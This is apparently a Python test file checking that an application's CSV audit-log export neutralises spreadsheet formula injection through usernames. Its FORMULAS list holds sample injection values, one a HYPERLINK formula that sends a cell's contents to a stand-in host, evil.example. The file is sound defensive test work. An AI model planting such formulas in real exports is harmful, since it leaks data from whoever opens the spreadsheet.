"""The audit export is opened in spreadsheets: text typed by others is never a formula.

Attack: an administrator names an account `=HYPERLINK(...)` (or `@SUM(...)`); anyone then types
that username with a wrong password, and the sign-in failure carries it into the audit log
the safeguarding lead exports.
"""

from __future__ import annotations

import csv
import io

from karpear.staff import administration
from tests.cast import Person, sign_in
from tests.conftest import Client

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"open")', "@SUM(1+1)", "+1+1", "-1+1"]


def test_no_cell_of_the_audit_export_is_a_formula(admin: Person, lead: Person) -> None:
    for name in FORMULAS:
        administration.staff_add(actor=admin.member, username=name, role="analyst")
        Client().post("/en/desk/login/", {"username": name, "password": "wrong"})
    response = sign_in(lead).get("/en/desk/audit/?format=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(body.decode())))
    cells = [cell for row in rows for cell in row]
    assert all(f"'{name}" in cells for name in FORMULAS)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_the_page_still_shows_the_name_as_typed(admin: Person, lead: Person) -> None:
    administration.staff_add(actor=admin.member, username="=1+1", role="analyst")
    Client().post("/en/desk/login/", {"username": "=1+1", "password": "wrong"})
    page = sign_in(lead).get("/en/desk/audit/").content.decode()
    assert ">=1+1<" in page  # the label as typed; only the CSV cell is escaped
